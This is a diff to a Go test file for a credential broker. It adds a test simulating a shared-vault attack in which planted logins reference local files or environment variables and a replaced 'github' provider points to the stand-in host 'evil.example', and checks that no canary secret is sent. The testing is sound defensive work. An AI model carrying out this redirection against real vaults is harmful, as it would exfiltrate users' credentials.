@@ -5,6 +5,7 @@ import (
 	"net/http"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -321,6 +322,77 @@ func TestAttackSharedVaultDrawsAPersonalToken(t *testing.T) {
 	}
 }
 
+// TestAttackSharedVaultReadsTheDevice: who can write a shared vault puts a login
+// there that refers to a file or a variable of this device.
+func TestAttackSharedVaultReadsTheDevice(t *testing.T) {
+	f := newFixture(t)
+	file, mine := filepath.Join(f.options.Paths.Home, "private"), testkit.NewCanary("sec_", 36)
+	if err := os.WriteFile(file, []byte(mine+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	f.options.Getenv = func(name string) string {
+		if name == "PRIVATE" {
+			return mine
+		}
+		return ""
+	}
+	f.addTeam()
+	planted := func(ref string) vaultfile.Login {
+		return vaultfile.Login{Profile: "bot", Provider: "github", Method: "token", Refs: map[string]string{"token": ref}}
+	}
+	s := f.start(f.workDir, "bot")
+	arrives := func() string {
+		f.get(s, "kb.bot", http.MethodGet, "https://api.github.com/user", nil)
+		token, _ := f.arrived()
+		return token
+	}
+	for _, ref := range []string{"file:" + file, "env:PRIVATE"} {
+		f.editTeam(func(tx *vaultfile.Tx) error { return tx.PutLogin(planted(ref)) })
+		testkit.Eventually(t, 5*time.Second, "the planted login to be in effect", func() bool {
+			return slices.ContainsFunc(s.snapshot.Load().logins, func(c *credentials) bool { return c.login.Refs["token"] == ref })
+		})
+		if got := f.get(s, "kb.bot", http.MethodGet, "https://api.github.com/user", nil); got.refusal.Code != CodeLoginNeeded {
+			t.Errorf("%s: got %d %+v, want %s", ref, got.status, got.refusal, CodeLoginNeeded)
+		}
+		if arrives() == mine {
+			t.Errorf("%s was read and sent", ref)
+		}
+	}
+	// Nor is the variable taken from a child: it could be PATH.
+	parent := f.environ("PRIVATE=" + mine)
+	if env, _ := s.childEnvironment(parent); !slices.Contains(env, "PRIVATE="+mine) {
+		t.Error("a variable that the shared vault names was taken away")
+	}
+	for _, state := range f.broker.LoginStates() {
+		if state.Login.Profile == "bot" && (state.State != StateNeedsLogin || !strings.Contains(state.Reason, "kb login github -p bot --from")) {
+			t.Errorf("status says %+v", state)
+		}
+	}
+	// Positive control: given here by a person, the same reference is used.
+	login := planted("file:" + file)
+	login.Profile = "team/bot"
+	if _, err := f.broker.Login(t.Context(), LoginSpec{Login: login}); err != nil {
+		t.Fatal(err)
+	}
+	testkit.Eventually(t, 5*time.Second, "the reference to be used", func() bool { return arrives() == mine })
+	// But not for what the shared vault makes of the provider later.
+	evil := f.world.Serve("evil.example", testkit.OriginConfig{Handler: testkit.Echo()})
+	f.editTeam(func(tx *vaultfile.Tx) error {
+		return tx.PutProvider(vaultfile.Provider{Name: "github", TOML: thief, Replaces: "github"})
+	})
+	testkit.Eventually(t, 5*time.Second, "the new definition to be in effect", func() bool {
+		return len(s.snapshot.Load().at("evil.example", 443)) > 0
+	})
+	if got := f.get(s, "kb.bot", http.MethodGet, "https://evil.example/user", nil); got.refusal.Code != CodeLoginNeeded {
+		t.Errorf("got %d %+v, want %s", got.status, got.refusal, CodeLoginNeeded)
+	}
+	for _, r := range evil.Requests() {
+		if r.Credential() == mine {
+			t.Error("an accepted reference was sent to the host of a definition that came later")
+		}
+	}
+}
+
 // TestVaultThatCannotBeOpened: nothing is resolved without its rules, what does
 // not need it goes on, and nothing is guessed of its names.
 func TestVaultThatCannotBeOpened(t *testing.T) {
@@ -446,6 +518,16 @@ func TestInitAddsAVault(t *testing.T) {
 	}
 	if _, err := os.Lstat(other); err == nil {
 		t.Error("a vault was made all the same")
+	}
+	var missing *MissingVaultError
+	if err := os.Rename(f.broker.VaultPath(), other); err != nil {
+		t.Fatal(err)
+	}
+	if err := add("", ""); !errors.As(err, &missing) || !errors.Is(err, ErrNoVault) {
+		t.Errorf("in place of one that is gone: %v", err)
+	}
+	if err := os.Rename(other, f.broker.VaultPath()); err != nil {
+		t.Fatal(err)
 	}
 	if err := add("team", ""); err != nil {
 		t.Fatal(err)
